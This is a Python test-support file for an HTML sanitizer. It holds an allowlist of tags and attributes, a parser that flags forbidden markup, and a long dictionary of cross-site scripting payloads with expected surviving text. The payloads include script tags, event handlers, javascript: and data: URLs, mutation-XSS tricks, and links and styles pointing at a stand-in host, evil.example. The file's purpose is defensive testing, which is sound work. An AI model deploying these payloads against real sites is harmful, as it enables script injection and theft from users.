"""Texts that want to be more than text, and what HTML may hold whoever wrote it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

GLOBAL = {"class", "dir"}
PLAIN = "blockquote br code del em figcaption figure hr li p span strong table tbody td thead tr ul"
HEADINGS = ("h1", "h2", "h3", "h4", "h5", "h6")
MATHS = (
    "mi mn mo mfrac mover mphantom mpadded mroot mrow mspace msqrt mstyle msub msubsup msup mtable "
    "mtd mtext mtr munder munderover semantics"
)
ALLOWED: dict[str, set[str]] = {
    **{tag: set() for tag in f"{PLAIN} {MATHS}".split()},
    **{tag: {"id"} for tag in HEADINGS},
    "a": {"href", "rel", "title"},
    "annotation": {"encoding"},
    "button": {"type"},
    "copy-text": {"data-done", "hidden"},
    "div": {"role", "aria-label", "tabindex"},
    "img": {"src", "alt", "title", "loading", "width", "height"},
    "input": {"type", "disabled", "checked", "aria-label"},
    "math": {"display", "alttext"},
    "mfrac": {"linethickness"},
    "mi": {"mathvariant"},
    "mo": {
        *("accent", "fence", "form", "lspace", "maxsize", "minsize", "rspace", "separator"),
        "stretchy",
    },
    "mover": {"accent"},
    "mspace": {"width"},
    "mstyle": {"displaystyle", "scriptlevel"},
    "mtable": {"displaystyle"},
    "ol": {"start"},
    "pre": {"tabindex", "aria-label"},
    "span": {"role", "aria-label", "tabindex"},
    "svg": {"width", "height", "aria-hidden"},
    "th": {"scope"},
    "use": {"href"},
}
LEADS = re.compile(r"https?://[^/\\]|mailto:|/(?![/\\])|/\Z|#", re.IGNORECASE)
OWN = re.compile(r"/(media|api/files)/")
SPRITE = "/static/vendor/icons.svg#copy"


class Shown(HTMLParser):
    """What a reader of HTML makes of it: its elements, its text, and all that it must not hold."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.faults: list[str] = []
        self.feed(html)
        self.close()

    def named(self, tag: str) -> list[dict[str, str]]:
        return [attributes for each, attributes in self.elements if each == tag]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in attrs}
        self.elements.append((tag, attributes))
        self.faults += faults_of(tag, attributes)

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"an instruction: {data}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"a section: {data}")


def faults_of(tag: str, attributes: dict[str, str]) -> list[str]:
    if tag not in ALLOWED:
        return [f"an element: {tag}"]
    faults = [f"{tag} has {name}" for name in attributes if name not in ALLOWED[tag] | GLOBAL]
    href, src = attributes.get("href"), attributes.get("src")
    if tag == "a":
        if href is not None and not LEADS.match(href):
            faults.append(f"a leads to {href}")
        if attributes.get("rel") != "nofollow noopener noreferrer":
            faults.append("a without rel")
    if tag == "use" and href != SPRITE:
        faults.append(f"use of {href}")
    if src is not None and (not OWN.match(src) or ".." in src or "\\" in src):
        faults.append(f"a picture of {src}")
    if tag == "input" and (attributes.get("type"), "disabled" in attributes) != ("checkbox", True):
        faults.append(f"a field: {attributes}")
    if "id" in attributes and not attributes["id"].startswith("part-"):
        faults.append(f"a name: {attributes['id']}")
    return faults


# Each with words that must still be there to read: an attack is shown, not swallowed.
ATTACKS = {
    "script": ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    "script in capitals": ("<ScRiPt>alert(1)</sCrIpT >", "alert(1)"),
    "script that is never closed": ("<script>alert(1)", "<script>alert(1)"),
    "script cut in two": ("<scr<script>ipt>alert(1)</scr</script>ipt>", "ipt>alert(1)"),
    "script with a slash": ("<script/src=//evil.example/x.js>", "evil.example"),
    "script by entities": ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    "script by numbers": ("&#60;script&#x3e;alert(1)", "<script>alert(1)"),
    "handler": ('<img src=x onerror="alert(1)">', "onerror"),
    "handler without quotes": ("<b onmouseover=alert(1)>x</b>", "onmouseover"),
    "handler behind a slash": ("<svg/onload=alert(1)>", "onload"),
    "handler over lines": ("<img\nsrc=x\nonerror\n=\nalert(1)>", "onerror"),
    "handler in an alt": ('![x" onerror="alert(1)](/media/a.png)', ""),
    "handler in a picture's address": ('![x](/media/a.png"onerror="alert(1))', ""),
    "handler in a link's title": ("[x](/y '\" onclick=\"alert(1)')", "x"),
    "handler in a link's address": ('[x](/y"onclick="alert(1))', "x"),
    "handler in an autolink": ('<https://x.example/"onclick="alert(1)>', "x.example"),
    "handler in a bare address": ('https://x.example/"onclick="alert(1)"', "x.example"),
    "handler in a language": ('```"onclick="alert(1)\nx\n```', "x"),
    "markup in a language": ("```</code></pre><script>alert(1)</script>\nx\n```", "x"),
    "markup in code": ("```html\n</code></pre><script>alert(1)</script>\n```", "<script>"),
    "markup in indented code": ("    </pre><script>alert(1)</script>", "<script>"),
    "markup in inline code": ("`</code><script>alert(1)</script>`", "<script>"),
    "markup in a heading": ("# <script>alert(1)</script>", "<script>"),
    "markup in a table": ("|<script>x|\n|-|\n|</td><script>alert(1)|", "<script>"),
    "markup in an alignment": ('|a|\n|:-"onclick=x:|\n|b|', "onclick"),
    "javascript": ("[x](javascript:alert(1))", "javascript:alert(1)"),
    "javascript in capitals": ("[x](JaVaScRiPt:alert(1))", "alert(1)"),
    "javascript with a space before": ("[x]( javascript:alert(1))", "alert(1)"),
    "javascript in brackets": ("[x](<javascript:alert(1)>)", "alert(1)"),
    "javascript with a tab": ("[x](java\tscript:alert(1))", "alert(1)"),
    "javascript with a tab as entity": ("[x](java&Tab;script:alert(1))", "alert(1)"),
    "javascript with a line as entity": ("[x](java&NewLine;script:alert(1))", "alert(1)"),
    "javascript with a number": ("[x](java&#x0A;script:alert(1))", "alert(1)"),
    "javascript by entities": ("[x](&#106;avascript&colon;alert(1))", "alert(1)"),
    "javascript with many zeroes": ("[x](&#0000106avascript:alert(1))", "alert(1)"),
    "javascript behind a control": ("[x](\x01javascript:alert(1))", "alert(1)"),
    "javascript behind controls as entities": ("[x](&#1;&#x1b;javascript:alert(1))", "alert(1)"),
    "javascript behind a wide space": ("[x](\u00a0javascript:alert(1))", "alert(1)"),
    "javascript behind a mark of order": ("[x](\ufeffjavascript:alert(1))", "alert(1)"),
    "javascript with an escaped colon": ("[x](javascript\\:alert(1))", "alert(1)"),
    "javascript encoded": ("[x](javascript%3Aalert(1))", "alert(1)"),
    "javascript as a host": ("[x](javascript://x.example/%0aalert(1))", "alert(1)"),
    "javascript in an autolink": ("<javascript:alert(1)>", "javascript:alert(1)"),
    "javascript in a picture": ("![x](javascript:alert(1))", "alert(1)"),
    "javascript in a reference": ("[x]\n\n[x]: javascript:alert(1)", "x"),
    "javascript in a reference with entities": ("[x][y]\n\n[y]: &#x6A;avascript:alert(1)", "x"),
    "javascript with letters that look alike": ("[x](\uff4aavascript:alert(1))", "alert(1)"),
    "vbscript": ("[x](vbscript:msgbox(1))", "msgbox(1)"),
    "data": ("[x](data:text/html,<script>alert(1)</script>)", "alert(1)"),
    "data in base64": ("[x](data:text/html;base64,PHNjcmlwdD4=)", "base64"),
    "data as a picture": ("![x](data:image/svg+xml,%3Csvg/onload=alert(1)%3E)", "alert(1)"),
    "data as a harmless picture": ("![x](data:image/png;base64,iVBORw0KGgo=)", "base64"),
    "file": ("[x](file:///etc/passwd)", "etc/passwd"),
    "blob": ("[x](blob:https://x.example/1)", "blob"),
    "a scheme nobody knows": ("[x](intent://scan/#Intent;end)", "intent"),
    "a scheme in a scheme": ("[x](feed:javascript:alert(1))", "alert(1)"),
    "view-source": ("[x](view-source:https://x.example)", "view-source"),
    "another site by two slashes": ("[x](//evil.example)", "evil.example"),
    "another site by backslashes": ("[x](/\\\\evil.example)", "x"),
    "another site by one backslash": ("[x](\\\\\\\\evil.example)", "evil.example"),
    "another site by a tab": ("[x](/&Tab;/evil.example)", "x"),
    "another site without a host": ("[x](https:evil.example)", "evil.example"),
    "a place on this page's folder": ("[x](../../admin/)", "admin"),
    "a picture of another site": ("![x](https://evil.example/pixel.gif)", "x"),
    "a picture by two slashes": ("![x](//evil.example/pixel.gif)", "evil.example"),
    "a picture that climbs": ("![x](/media/../accounts/logout/)", "x"),
    "a picture that climbs encoded": ("![x](/media/%2e%2e/accounts/logout/)", "x"),
    "a picture that climbs encoded twice": ("![x](/media/%252e%252e/accounts/)", "x"),
    "a picture that climbs by backslash": ("![x](/media/..%5caccounts%5clogout/)", "x"),
    "a size that is more": ('![x](/media/a.png?w=9&h=9"onload="alert(1))', ""),
    "a size beyond all": ("![x](/media/a.png?w=99999&h=9e9)", ""),
    "a picture from elsewhere here": ("![x](/accounts/logout/)", "x"),
    "a link in a link": ("[a [b](https://x.example) c](https://y.example)", "b"),
    "a bare address in a link": ("[https://x.example](https://y.example)", "https://x.example"),
    "a strange picture in a link": ("[![a](https://x.example/a.png)](https://y.example)", "a"),
    "an autolink in a link": ("[<https://x.example>](https://y.example)", "x.example"),
    "a link in an alt": ("![a [b](javascript:alert(1)) c](/media/a.png)", ""),
    "a reference to a reference": ("[a][b]\n\n[b]: <javascript:x>\n[b]: /y", "a"),
    "a title that closes": ('[x](/y "</a><script>alert(1)</script>")', "x"),
    "style": ("<style>*{display:none}</style>", "display:none"),
    "style as an attribute": ('<p style="position:fixed">x</p>', "position"),
    "style that asks": ("<style>@import '//evil.example/x.css'</style>", "evil.example"),
    "link element": ('<link rel="stylesheet" href="//evil.example">', "stylesheet"),
    "base element": ('<base href="//evil.example/">', "base"),
    "meta element": ('<meta http-equiv="refresh" content="0;url=//evil.example">', "refresh"),
    "iframe": ("<iframe src='//evil.example'></iframe>", "iframe"),
    "iframe with a document": ("<iframe srcdoc='<script>alert(1)</script>'>", "srcdoc"),
    "object": ('<object data="data:text/html,x"></object>', "object"),
    "embed": ("<embed src=//evil.example>", "embed"),
    "form": ('<form action="//evil.example"><input name=password></form>', "password"),
    "button": ("<button formaction=javascript:alert(1)>x</button>", "formaction"),
    "field": ('<input autofocus onfocus="alert(1)">', "onfocus"),
    "details": ("<details open ontoggle=alert(1)>", "ontoggle"),
    "video": ("<video><source onerror=alert(1)></video>", "onerror"),
    "marquee": ("<marquee onstart=alert(1)>x</marquee>", "onstart"),
    "svg": ("<svg><script>alert(1)</script></svg>", "alert(1)"),
    "svg with animation": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
        "attributeName",
    ),
    "svg with use": ("<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>", "use"),
    "mathml": ("<math><mtext><a xlink:href=javascript:alert(1)>x</a></mtext></math>", "xlink"),
    "script in a formula": ("$\\text{<script>alert(1)</script>}$", "<script>alert(1)"),
    "script in a formula by entities": ("$$\\text{&lt;script&gt;alert(1)}$$", "alert(1)"),
    "markup that leaves a formula": ("$</annotation></math><img src=x onerror=alert(1)>$", "img"),
    "handler in a formula's words": ('$x"onclick="alert(1)$', "onclick"),
    "javascript in a formula": ("$\\href{javascript:alert(1)}{x}$", "javascript:alert(1)"),
    "style in a formula": ("$\\style{position:fixed;inset:0}{x}$", "position"),
    "class in a formula": ("$\\class{dialog}{x}$", "dialog"),
    "colour in a formula": ("$\\color{url(//evil.example)}{x}$", "evil.example"),
    "a formula over the page": ("$\\hspace{-99em}\\rule{999em}{999em}$", "999em"),
    "a width in a formula": ('$\\hspace{9" onclick="x}y$', "onclick"),
    "a sign of a formula by its number": ("$\\unicode{x3cscript}$", "x3cscript"),
    "a name that grows": ("$\\def\\a{\\b\\b}\\def\\b{\\a\\a}\\a$", "def"),
    "mathml in a formula": ("$\\text{<math><mglyph><style>}$", "mglyph"),
    "annotation": ("<math><annotation-xml encoding=text/html><script>", "annotation-xml"),
    "maction": ("<math><maction actiontype=statusline xlink:href=javascript:x>y", "maction"),
    "template": ("<template><script>alert(1)</script></template>", "template"),
    "noscript": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "onerror"),
    "comment": ("<!-- <script>alert(1)</script> -->", "<script>alert(1)</script>"),
    "comment of one sign": ("<!--><script>alert(1)</script>-->", "alert(1)"),
    "comment that ends oddly": ("<!-- --!><img src=x onerror=alert(1)>", "onerror"),
    "conditional comment": ("<!--[if IE]><script>alert(1)</script><![endif]-->", "alert(1)"),
    "instruction": ("<?php echo 1 ?>", "php"),
    "declaration": ("<!DOCTYPE html><!ENTITY x 'y'>", "ENTITY"),
    "character data": ("<![CDATA[<script>alert(1)</script>]]>", "alert(1)"),
    "a name for the page": ('<a id="csrf_token" name="getElementById">x</a>', "csrf_token"),
    "a name by a heading": ("# body\n\n# body\n\n## `__proto__`", "__proto__"),
    "a name by attributes": ("# x {#main onclick=alert(1)}", "onclick"),
    "a custom element": ('<copy-text data-done="x"><job-progress></job-progress>', "job-progress"),
    "htmx": ('<p hx-get="/accounts/logout/" hx-trigger="load">x</p>', "hx-get"),
    "a place of code": ('<pre class="code-place">0</pre>', "code-place"),
    "a place of code beside code": ('```\nx\n```\n\n<pre class="code-place">7</pre>', "7"),
    "a place of code in a title": ("[x](/y '<pre class=\"code-place\">0</pre>')\n\n    z", "z"),
    "mutation by noscript": (
        '<noscript><style></noscript><img src=x onerror="alert(1)">',
        "onerror",
    ),
    "mutation by mathml": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
        "mglyph",
    ),
    "mutation by a form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "mglyph",
    ),
    "mutation by svg and style": (
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "onerror",
    ),
    "mutation by select": ("<select><template><img src=x onerror=alert(1)></select>", "onerror"),
    "mutation by a title": ('<p title="&lt;/p&gt;<img src=x onerror=alert(1)>">', "onerror"),
    "mutation by backticks": ('<img src="``onerror=alert(1)">', "img src="),
    "mutation by a listing": ("<listing>&lt;img onerror=alert(1) src=x&gt;</listing>", "onerror"),
    "mutation by plain text": ("<plaintext><script>alert(1)</script>", "alert(1)"),
    "mutation by xmp": ("<xmp><p title='</xmp><img src onerror=alert(1)>'></xmp>", "onerror"),
    "nothing in the middle": ("<scr\x00ipt>alert(1)</scr\x00ipt>", "alert(1)"),
    "half a character": ("<scr\ud800ipt>\udfff[x](\ud800javascript:alert(1))", "alert(1)"),
    "broken encoding": (b"\xc0\xbcscript\xc0\xbe \xff".decode(errors="surrogateescape"), "script"),
    "letters that look like brackets": ("\uff1cscript\uff1ealert(1)", "\uff1cscript"),
    "text that turns around": ("\u202e<script>\u202c", "<script>"),
    "separators of lines": ("<script\u2028>alert(1)\u2029</script>", "alert(1)"),
    "a line without an end": ("<" + "a" * 50_000 + " onclick=x>", "onclick"),
    "an attribute without an end": ('<p title="' + "x" * 50_000, "title"),
    "an address without an end": (f"[x](https://x.example/{'y' * 50_000})", "x.example"),
}
